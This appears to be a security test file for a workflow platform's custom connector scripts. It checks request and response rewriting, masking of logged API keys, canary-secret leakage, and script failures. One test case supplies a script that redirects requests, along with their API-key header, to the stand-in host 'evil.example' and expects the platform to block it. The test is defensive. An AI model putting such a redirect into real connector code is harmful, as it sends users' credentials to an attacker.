import { afterAll, beforeAll, expect, test } from 'vitest';
import {
  canary,
  connectFramer,
  connectionParameter,
  framerApi,
  host,
  references,
} from '../../../../tools/testing/framer-api.ts';
import { type ManagedServer, startManagedServer } from '../../../../tools/testing/managed-server.ts';
import { over, save, urlOf } from '../../../../tools/testing/run-workflows.ts';

// Attack T7 of docs/security.md.

let server: ManagedServer;
let connectorId = '';
let connectionId = '';
beforeAll(async () => {
  server = await startManagedServer();
  const { group, access, send } = server;
  await send('PUT', `${group}/providers/Microsoft.Web/customApis/framer`, { body: framerApi(server) });
  connectionId = (await connectFramer(server, 'framer')).body.id;
  const { body } = await send('GET', `/api/v1/connectors?subscriptionId=${access.subscriptionId}`);
  connectorId = body.connectors[0].id;
  server.stub.answer = (request, response) => {
    response.setHeader('content-type', 'application/json');
    response.end(JSON.stringify({ echo: request.headers['x-api-key'], price: 20 }));
  };
});
afterAll(() => server.close());

const platform = (method: string, path: string, body?: unknown) =>
  server.send(method, `/api/v1/connectors/${connectorId}${path}?`, body === undefined ? {} : { body });

async function write(text: string): Promise<void> {
  expect((await platform('PUT', '/code', { text })).status).toBe(200);
  expect((await platform('POST', '/save', {})).status).toBe(200);
}

/** Runs a workflow that orders through the connection, and gives its action. */
async function order(name: string) {
  const actions = {
    Order: { type: 'ApiConnection', inputs: { host, method: 'post', path: '/orders', body: { frame: 'oak' } } },
  };
  await save(server, name, { actions, ...connectionParameter }, references(connectionId));
  const started = await fetch(await urlOf(server, name), { method: 'POST' });
  const run = started.headers.get('x-ms-workflow-run-id') ?? '';
  await over(server, name, run);
  const { client, access } = server;
  const action = await client.workflowRunActions.get(access.resourceGroup, name, run, 'Order');
  const outputs = action.outputsLink?.uri ? await (await fetch(action.outputsLink.uri)).json() : undefined;
  return { run, action, outputs };
}

const code = `
const seen = [];
function onRequest(request, context) {
  seen.push(context.operationId);
  console.log('key', request.headers['X-Api-Key'], 'seen', seen);
  return { ...request, url: request.url + '?by=code', headers: { ...request.headers, 'X-Code': 'yes' }, body: { ...request.body, size: 3 } };
}
function onResponse(response) {
  console.log('price', response.body.price);
  return { ...response, statusCode: 201, body: { total: response.body.price * 2, echo: response.body.echo } };
}
`;

test('the code of a connector changes requests and answers of runs, and its author reads what it logged', async () => {
  await write(code);
  for (const name of ['coded', 'coded-again']) {
    server.stub.seen.length = 0;
    const { action, outputs, run } = await order(name);
    expect(action.status).toBe('Succeeded');
    expect(server.stub.seen).toMatchObject([{ method: 'POST', url: '/v1/orders?by=code' }]);
    expect(server.stub.seen[0]?.headers).toMatchObject({ 'x-code': 'yes' });
    expect(Buffer.from(String(server.stub.seen[0]?.headers['x-api-key']), 'latin1').toString()).toContain('canary');
    expect(JSON.parse(server.stub.seen[0]?.body ?? '')).toEqual({ frame: 'oak', size: 3 });
    expect(outputs).toMatchObject({ statusCode: 201, body: { total: 40 } });
    const { logs } = (await platform('GET', '/code')).body;
    // Every call has an engine of its own: nothing is remembered from the call before.
    expect(logs[0]).toMatchObject({ call: 'POST /orders', runName: run });
    expect(logs[0].lines).toEqual([expect.stringMatching(/^key WITHHELD\w+ seen \["Order"\]$/), 'price 20']);
  }
  expect(JSON.stringify((await platform('GET', '/code')).body)).not.toContain(canary.slice(0, 10));
});

test.each([
  {
    name: 'throws',
    text: 'function onRequest() { console.log("before"); throw new Error("no frame"); }',
    code: 'code-failed',
  },
  { name: 'never ends', text: 'function onResponse() { for (;;) {} }', code: 'code-failed' },
  { name: 'is no program', text: 'function (', code: 'code-failed' },
  {
    name: 'leaves for another host',
    text: 'function onRequest(r) { return { ...r, url: "https://evil.example/" }; }',
    code: 'code-host-not-declared',
  },
])('code that $name fails the action and nothing else', async ({ name, text, code: expected }) => {
  await write(text);
  const { action } = await order(name.replaceAll(' ', '-'));
  expect(action).toMatchObject({ status: 'Failed', error: { code: expected } });
});

test('a test of an operation shows what the code did, and what it did wrong', async () => {
  const tryIt = async () => {
    const values = { height: 1, width: 2 };
    return (await platform('POST', '/operations/GetPrice/test', { values, connection: { api_key: canary } })).body;
  };
  await platform('PUT', '/code', { text: code });
  expect(await tryIt()).toMatchObject({
    request: { url: expect.stringContaining('?by=code') },
    response: { status: 201, body: expect.stringContaining('"total":40') },
    failure: null,
    logs: [expect.stringContaining('GetPrice'), 'price 20'],
  });
  await platform('PUT', '/code', { text: 'function onRequest() { console.log("here"); null.x; }' });
  const failed = await tryIt();
  expect(failed).toMatchObject({ response: null, failure: { code: 'code-failed' } });
  expect(failed.logs[0]).toBe('here');
  expect(failed.logs[1]).toContain('script.js:1');
  await platform('PUT', '/code', { text: ' ' });
  expect((await platform('GET', '/code')).body).toMatchObject({ text: '', script: null });
});

test('a definition that is changed through the management API keeps the code, and what else a resource cannot say', async () => {
  await write(code);
  const { group, send } = server;
  const path = `${group}/providers/Microsoft.Web/customApis/framer`;
  const before = await platform('GET', '/code');
  const changed = framerApi(server, { displayName: 'Another name', policyTemplateInstances: [] });
  expect((await send('PUT', path, { body: changed })).body.properties.displayName).toBe('Another name');
  expect((await platform('GET', '/code')).body.text).toBe(before.body.text);
  expect(before.body.text).toContain('onRequest');
});
